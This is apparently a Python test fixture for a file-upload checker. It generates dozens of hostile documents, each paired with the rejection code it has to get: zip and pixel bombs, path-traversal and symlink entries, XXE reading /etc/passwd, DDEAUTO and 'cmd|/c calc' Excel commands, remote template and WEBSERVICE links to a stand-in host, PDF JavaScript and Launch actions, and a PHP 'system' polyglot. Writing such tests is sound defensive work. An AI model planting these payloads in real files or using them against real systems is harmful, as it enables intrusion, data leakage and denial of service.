"""Files made to do harm, each with the answer it has to get.

The table is the list of what was thought of: name as a browser would send it, maker, reason.
"""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pypdf import PdfWriter

from tuphap.foundation.files.tests.sound import (
    RELATIONS,
    jpeg,
    object_stream,
    office,
    packed,
    pdf,
    png,
    png_of,
    relations,
    stream,
)

MEGABYTE = 1024 * 1024
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


@dataclass(frozen=True)
class Hostile:
    """`reason` is a code of the table of checks."""

    what: str
    name: str
    make: Callable[[], bytes]
    reason: str


def changed(body: bytes, name: str, more: dict[str, int]) -> bytes:
    """The same container, with other values in the entry of one member."""
    source, target = zipfile.ZipFile(io.BytesIO(body)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            for key, value in more.items() if member.filename == name else ():
                setattr(member, key, value)
            archive.writestr(member, source.read(member.filename))
    return target.getvalue()


def twice(kind: str, name: str, second: str) -> bytes:
    body = io.BytesIO(office(kind, {name: "<a/>"}))
    with zipfile.ZipFile(body, "a") as archive:
        archive.writestr(zipfile.ZipInfo(second), "<b/>")
    return body.getvalue()


def with_flag(body: bytes, flag: int) -> bytes:
    """The flag set in every entry of the list, as a locked container has it."""
    found, position = bytearray(body), 0
    while (position := body.find(b"PK\x01\x02", position)) >= 0:
        found[position + 8] |= flag
        position += 4
    return bytes(found)


def lying_about_size() -> bytes:
    """64 MB of spaces that claim to be 100 bytes."""
    body = bytearray(
        packed({"[Content_Types].xml": "<a/>", "word/document.xml": " " * 64 * MEGABYTE})
    )
    size = struct.pack("<I", 64 * MEGABYTE)
    return bytes(body).replace(size, struct.pack("<I", 100))


def overlapping() -> bytes:
    """Many entries that name the same packed bytes: small outside, huge inside."""
    body = office("docx", {"word/media/a.bin": b"\0" * 8 * MEGABYTE})
    start = body.rfind(b"PK\x01\x02", 0, body.rfind(b"PK\x05\x06"))
    end = body.rfind(b"PK\x05\x06")
    entry, first = body[start:end], body.find(b"PK\x01\x02")
    listed = body[first:end] + entry * 200
    count = zipfile.ZipFile(io.BytesIO(body)).infolist().__len__() + 200
    return (
        body[:first]
        + listed
        + b"PK\x05\x06\0\0\0\0"
        + struct.pack("<HHIIH", count, count, len(listed), first, 0)
    )


def locked_pdf(opens_with: str = "bí mật") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(opens_with, "bí mật", algorithm="RC4-128")
    body = io.BytesIO()
    writer.write(body)
    return body.getvalue()


def old_revision() -> bytes:
    """The script was deleted in a later revision, but its bytes are still there."""
    first = pdf(SCRIPT)
    place = len(first)
    return first + (
        b"4 0 obj\nnull\nendobj\nxref\n4 1\n%010d 00000 n \n"
        b"trailer << /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (place, first.rfind(b"xref\n0"), place + 22)
    )


def pixel_bomb_jpeg() -> bytes:
    body = bytearray(jpeg())
    place = body.find(b"\xff\xc0")
    body[place + 5 : place + 9] = struct.pack(">HH", 60000, 60000)
    return bytes(body)


def png_bomb() -> bytes:
    """A small picture whose rows unpack to 500 MB."""
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(b"\0" * MEGABYTE) for _ in range(500)) + packer.flush()
    return png_of(20, 10, rows)


def named(kind: str, name: str) -> Callable[[], bytes]:
    return lambda: office(kind, {name: "x"})


def external(kind: str, target: str) -> Callable[[], bytes]:
    rows = relations((f"{RELATIONS}/{kind}", target, "External"))
    return lambda: office("docx", {"word/_rels/document.xml.rels": rows})


def field(words: str) -> Callable[[], bytes]:
    """A field of Word, its word cut into pieces as Word does."""
    parts = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in words)
    return lambda: office("docx", {"word/document.xml": f'<w:d xmlns:w="urn:w">{parts}</w:d>'})


def formula(words: str, element: str = "f") -> Callable[[], bytes]:
    rows = f'<x:s xmlns:x="urn:x"><x:{element}>{words}</x:{element}><x:v>1</x:v></x:s>'
    return lambda: office("xlsx", {"xl/worksheets/sheet1.xml": rows})


def workbook_part(name: str, text: str) -> Callable[[], bytes]:
    return lambda: office("xlsx", {f"xl/{name}.xml": text})


def dtd(text: str, kind: str = "docx", name: str = "word/document.xml") -> Callable[[], bytes]:
    return lambda: office(kind, {name: text})


def macro_type() -> bytes:
    kind = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return office("xlsx", types=f'<Override PartName="/xl/a.xml" ContentType="{kind}"/>')


def html_type() -> bytes:
    return office("docx", types='<Default Extension="dat" ContentType="text/html"/>')


def many_parts() -> bytes:
    return packed({f"word/{number}.xml": "" for number in range(4001)})


LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
)
TABLE: tuple[Hostile, ...] = (
    # --- any file ---
    Hostile("nothing at all", "trong.pdf", lambda: b"", "empty_file"),
    Hostile("too large", "lon.pdf", lambda: pdf() + b"\n" * 20 * MEGABYTE, "file_too_large"),
    Hostile("a program", "chay.exe", lambda: b"MZ" + b"\0" * 64, "file_kind"),
    Hostile("a program as PDF", "chay.pdf", lambda: b"MZ" + b"\0" * 64, "file_unlike"),
    Hostile("a page of the web", "trang.html", lambda: b"<script>", "file_kind"),
    Hostile("a drawing with a script", "hinh.svg", lambda: b"<svg onload='x'/>", "file_kind"),
    Hostile("a drawing as PNG", "hinh.png", lambda: b"<svg onload='x'/>", "file_unlike"),
    Hostile("two endings", "so.pdf.exe", pdf, "file_kind"),
    Hostile("an ending turned round", "so\u202efdp.exe", pdf, "file_kind"),
    Hostile("a macro workbook by ending", "so.xlsm", lambda: office("xlsx"), "file_kind"),
    Hostile("an old document", "so.docx", lambda: OLD_OFFICE, "file_unlike"),
    Hostile("a picture as PDF", "anh.pdf", jpeg, "file_disguised"),
    Hostile("a PDF as picture", "anh.jpg", pdf, "file_disguised"),
    Hostile("a workbook as document", "so.docx", lambda: office("xlsx"), "file_disguised"),
    # --- containers ---
    Hostile(
        "a locked document",
        "so.docx",
        lambda: OLD_OFFICE + "EncryptedPackage".encode("utf-16-le"),
        "file_locked",
    ),
    Hostile("a locked part", "so.xlsx", lambda: with_flag(office("xlsx"), 1), "file_locked"),
    Hostile("cut off", "so.docx", lambda: office("docx")[:-30], "file_broken"),
    Hostile(
        "one bit turned",
        "so.docx",
        lambda: office("docx", {"word/a.bin": bytes(range(256))}).replace(
            zlib.crc32(bytes(range(256))).to_bytes(4, "little"), b"\1\2\3\4"
        ),
        "file_broken",
    ),
    Hostile(
        "a bomb",
        "so.xlsx",
        lambda: office("xlsx", {"xl/a.xml": b" " * 150 * MEGABYTE}),
        "container_ratio",
    ),
    Hostile(
        "a larger bomb",
        "so.xlsx",
        lambda: office("xlsx", {f"xl/{n}.bin": b"\0" * 50 * MEGABYTE for n in range(5)}),
        "container_unpacked",
    ),
    Hostile("a bomb that lies", "so.docx", lying_about_size, "file_broken"),
    Hostile("a bomb of doubles", "so.docx", overlapping, "container_doubles"),
    Hostile("too many parts", "so.docx", many_parts, "container_members"),
    Hostile("a way out", "so.docx", named("docx", "../../etc/passwd"), "container_names"),
    Hostile("a way from the root", "so.docx", named("docx", "/etc/passwd"), "container_names"),
    Hostile("a way of Windows", "so.docx", named("docx", "word\\..\\a.xml"), "container_names"),
    Hostile("a drive", "so.docx", named("docx", "C:a.xml"), "container_names"),
    Hostile(
        "the same part twice",
        "so.docx",
        lambda: twice("docx", "word/a.xml", "WORD/A.xml"),
        "container_doubles",
    ),
    Hostile(
        "a link",
        "so.docx",
        lambda: changed(
            office("docx", {"word/l": "/etc/passwd"}),
            "word/l",
            {"external_attr": (stat.S_IFLNK | 0o777) << 16},
        ),
        "container_links",
    ),
    Hostile(
        "a container inside",
        "so.docx",
        lambda: office("docx", {"word/a.bin": office("docx")}),
        "container_nested",
    ),
    Hostile(
        "something before it",
        "so.docx",
        lambda: office("docx")[:4] + b"x" * 40 + office("docx"),
        "file_two_kinds",
    ),
    Hostile("a PDF behind it", "so.docx", lambda: office("docx") + pdf(), "file_two_kinds"),
    Hostile("a few bytes behind it", "so.xlsx", lambda: office("xlsx") + b"\0", "file_two_kinds"),
    # --- XML ---
    Hostile("a billion laughs", "so.docx", dtd(LAUGHS), "xml_dtd"),
    Hostile(
        "a file of the server",
        "so.docx",
        dtd('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        "xml_dtd",
    ),
    Hostile(
        "a DTD in UTF-16",
        "so.xlsx",
        lambda: office("xlsx", {"xl/a.xml": "<!DOCTYPE a []><a/>".encode("utf-16")}),
        "xml_dtd",
    ),
    Hostile(
        "a DTD in the relations",
        "so.xlsx",
        dtd("<!DOCTYPE a []><a/>", "xlsx", "xl/_rels/workbook.xml.rels"),
        "xml_dtd",
    ),
    Hostile("no XML", "so.docx", dtd("<a><b></a>"), "file_broken"),
    Hostile(
        "a very deep tree",
        "so.docx",
        dtd("<a>" * 100_000 + "</a>" * 100_000, name="word/_rels/document.xml.rels"),
        "file_broken",
    ),
    # --- Word and Excel ---
    Hostile("a macro", "so.xlsx", named("xlsx", "xl/vbaProject.bin"), "office_macro"),
    Hostile("a macro by type", "so.xlsx", macro_type, "office_macro"),
    Hostile(
        "a sheet of old macros",
        "so.xlsx",
        lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}),
        "office_macro",
    ),
    Hostile("an object", "so.docx", named("docx", "word/embeddings/oleObject1.bin"), "office_ole"),
    Hostile("a control", "so.docx", named("docx", "word/activeX/activeX1.bin"), "office_activex"),
    Hostile(
        "a template from elsewhere",
        "so.docx",
        external("attachedTemplate", "https://xau.example/a.dotm"),
        "office_template",
    ),
    Hostile(
        "a picture from elsewhere",
        "so.docx",
        external("image", "https://xau.example/theo-doi.png"),
        "office_external",
    ),
    Hostile(
        "a share of Windows",
        "so.docx",
        external("hyperlink", "\\\\xau.example\\chung"),
        "office_external",
    ),
    Hostile(
        "a script in a link",
        "so.docx",
        external("hyperlink", "javascript:alert(1)"),
        "office_external",
    ),
    Hostile(
        "a workbook elsewhere",
        "so.docx",
        external("externalLinkPath", "file:///C:/khac.xlsx"),
        "office_external",
    ),
    Hostile("a part of HTML", "so.docx", named("docx", "word/afchunk.html"), "office_html"),
    Hostile("HTML by type", "so.docx", html_type, "office_html"),
    Hostile("a command in a field", "so.docx", field(" DDEAUTO c:\\\\cmd.exe "), "office_field"),
    Hostile(
        "a command behind an open quotation",
        "so.docx",
        field(' HYPERLINK "http://a.vn DDEAUTO c:\\\\cmd.exe "'),
        "office_field",
    ),
    Hostile(
        "a workbook that asks a program",
        "so.xlsx",
        workbook_part("a", '<l><ddeLink ddeService="cmd" ddeTopic="/c calc"/></l>'),
        "office_fetches",
    ),
    Hostile(
        "a workbook that opens an object elsewhere",
        "so.xlsx",
        workbook_part("externalLinks/externalLink1", '<l><oleLink progId="Package"/></l>'),
        "office_fetches",
    ),
    Hostile(
        "a workbook that asks an address",
        "so.xlsx",
        workbook_part("connections", '<connections><connection refreshOnLoad="1"/></connections>'),
        "office_fetches",
    ),
    Hostile(
        "a formula that fetches",
        "so.xlsx",
        formula('_xlfn.W&#69;BSERVICE("https://xau.example")'),
        "office_fetches",
    ),
    Hostile(
        "a formula that runs a program", "so.xlsx", formula("cmd|'/c calc'!A0"), "office_fetches"
    ),
    Hostile(
        "a name that fetches",
        "so.xlsx",
        formula('webservice ("https://xau.example")', "definedName"),
        "office_fetches",
    ),
    # --- PDF ---
    Hostile("a locked PDF", "so.pdf", locked_pdf, "file_locked"),
    Hostile("a restricted PDF", "so.pdf", lambda: locked_pdf(""), "pdf_restricted"),
    Hostile("a PDF cut off", "so.pdf", lambda: pdf()[:200], "file_broken"),
    Hostile("a PDF without pages", "so.pdf", lambda: b"%PDF-1.7\n%%EOF", "file_broken"),
    Hostile("a script", "so.pdf", lambda: pdf(SCRIPT, catalog=b"/OpenAction 4 0 R"), "pdf_script"),
    Hostile(
        "a script by another name",
        "so.pdf",
        lambda: pdf(b"<< /S /J#61va#53cript /#4a#53 (x) >>"),
        "pdf_script",
    ),
    Hostile("a packed script", "so.pdf", lambda: pdf(object_stream(SCRIPT)), "pdf_script"),
    Hostile(
        "a packed script by another name",
        "so.pdf",
        lambda: pdf(object_stream(SCRIPT.replace(b"/JS", b"/#4AS"), words=b"/Type /Obj#53tm")),
        "pdf_script",
    ),
    Hostile("a script of an old revision", "so.pdf", old_revision, "pdf_script"),
    Hostile(
        "a program to start", "so.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), "pdf_launch"
    ),
    Hostile(
        "a file inside",
        "so.pdf",
        lambda: pdf(stream(b"MZ", b"/Type /EmbeddedFile")),
        "pdf_embedded",
    ),
    Hostile(
        "a form that sends",
        "so.pdf",
        lambda: pdf(b"<< /S /SubmitForm /F (https://xau.example) >>"),
        "pdf_posts",
    ),
    Hostile(
        "a form that fetches",
        "so.pdf",
        lambda: pdf(b"<< /S /ImportData /F (a.fdf) >>"),
        "pdf_posts",
    ),
    Hostile(
        "an address opened by itself",
        "so.pdf",
        lambda: pdf(catalog=b"/OpenAction << /S /URI /URI (https://xau.example) >>"),
        "pdf_automatic",
    ),
    Hostile(
        "an act of a page",
        "so.pdf",
        lambda: pdf(page=b"/AA << /O << /S /URI /URI (https://xau.example) >> >>"),
        "pdf_automatic",
    ),
    Hostile(
        "a film", "so.pdf", lambda: pdf(b"<< /Type /Annot /Subtype /RichMedia >>"), "pdf_media"
    ),
    Hostile(
        "a form of scripts", "so.pdf", lambda: pdf(catalog=b"/AcroForm << /XFA [] >>"), "pdf_form"
    ),
    Hostile(
        "a bomb of objects",
        "so.pdf",
        lambda: pdf(object_stream(b" " * 120 * MEGABYTE)),
        "check_too_big",
    ),
    Hostile(
        "more pages than anybody reads",
        "so.pdf",
        lambda: pdf().replace(b"/Count 1 ", b"/Count 9999999 "),
        "pdf_pages",
    ),
    Hostile("a page of the web before it", "so.pdf", lambda: b"<html>" + pdf(), "file_unlike"),
    Hostile(
        "a page of the web behind it",
        "so.pdf",
        lambda: pdf(end=b"<script>alert(1)</script>"),
        "file_two_kinds",
    ),
    Hostile("a container behind it", "so.pdf", lambda: pdf(end=office("docx")), "file_two_kinds"),
    # --- pictures ---
    Hostile("a bomb of pixels", "anh.png", lambda: png_of(60000, 60000, b""), "picture_pixels"),
    Hostile("a bomb of pixels as JPEG", "anh.jpg", pixel_bomb_jpeg, "picture_pixels"),
    Hostile("more rows than announced", "anh.png", png_bomb, "file_broken"),
    Hostile(
        "a moving picture",
        "anh.png",
        lambda: png(20, 10, (b"acTL", struct.pack(">II", 2, 0))),
        "picture_animated",
    ),
    *(
        Hostile(
            f"a bomb of notes as {name.decode()}",
            "anh.png",
            lambda name=name, head=head: png(
                20, 10, (name, head + zlib.compress(b"a" * 50 * MEGABYTE))
            ),
            "picture_notes",
        )
        for name, head in (
            (b"zTXt", b"Comment\0\0"),
            (b"iTXt", b"Comment\0\1\0vi\0\0"),
            (b"iCCP", b"p\0\0"),
        )
    ),
    Hostile("a picture cut off", "anh.png", lambda: png()[:-20], "file_broken"),
    Hostile("a JPEG cut off", "anh.jpg", lambda: jpeg(400, 300)[:2000], "file_broken"),
    Hostile(
        "a container behind a picture",
        "anh.jpg",
        lambda: jpeg() + packed({"a": "b"}),
        "file_two_kinds",
    ),
    Hostile(
        "a script behind a picture",
        "anh.png",
        lambda: png() + b"<?php system('id') ?>",
        "file_two_kinds",
    ),
    Hostile(
        "a script behind a JPEG",
        "anh.jpg",
        lambda: jpeg() + b"<script>alert(1)</script>",
        "file_two_kinds",
    ),
)
